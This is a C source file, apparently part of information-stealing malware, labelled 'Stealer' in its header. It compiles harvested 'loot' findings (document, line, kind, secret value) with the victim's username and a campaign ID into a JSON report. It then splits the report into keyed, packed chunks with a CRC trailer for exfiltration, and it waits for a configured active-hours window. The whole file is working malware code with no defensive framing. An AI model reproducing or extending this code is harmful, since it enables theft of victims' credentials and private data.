/* Stealer: the report and its chunked upload. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <zlib.h>

#include "stealer.h"

size_t build_report(const struct loot *l, char *out, size_t cap, const struct beta_cfg *cfg)
{
    const char *user = getenv("USER");
    size_t n = (size_t)snprintf(out, cap, "{\"campaign\":\"%s\",\"user\":\"%s\",\"v\":%d,\"items\":[",
                                cfg->campaign, user ? user : "?", TOOL_VERSION);
    for (unsigned i = 0; i < l->n && n + 200 < cap; i++) {
        const struct finding *f = &l->f[i];
        n += (size_t)snprintf(out + n, cap - n, "%s{\"doc\":\"%s\",\"line\":%u,\"kind\":\"%s\",\"v\":\"%s\"}",
                              i ? "," : "", f->doc, f->line, f->kind, f->value);
    }
    n += (size_t)snprintf(out + n, cap - n, "]}");
    return n;
}

/* the report goes out in CHUNK-sized packets; the last one carries the crc of the whole */
unsigned send_chunks(const char *rep, size_t n, const struct beta_cfg *cfg, uint8_t *wire,
                            size_t wcap, size_t *wn)
{
    unsigned chunks = 0;
    uint32_t seq = (uint32_t)crc32(0L, (const Bytef *)cfg->campaign, (uInt)strlen(cfg->campaign));
    *wn = 0;
    for (size_t off = 0; off < n; off += CHUNK) {
        size_t len = n - off < CHUNK ? n - off : CHUNK;
        size_t w = beta_pack(wire + *wn, wcap - *wn, CMD_LOOT, seq + chunks, (const uint8_t *)rep + off,
                             len, cfg->key);
        if (!w)
            break;
        *wn += w;
        chunks++;
    }
    uint8_t tail[8];
    uint32_t c = (uint32_t)crc32(0L, (const Bytef *)rep, (uInt)n);
    memcpy(tail, &c, 4);
    memcpy(tail + 4, &chunks, 4);
    *wn += beta_pack(wire + *wn, wcap - *wn, CMD_LOOT_END, seq + chunks, tail, 8, cfg->key);
    return chunks;
}

int wait_for_window(const struct beta_cfg *cfg)
{
    for (unsigned h = 0; h < 24; h++)
        if (beta_cfg_active(cfg, h))
            return (int)h;
    return -1;
}
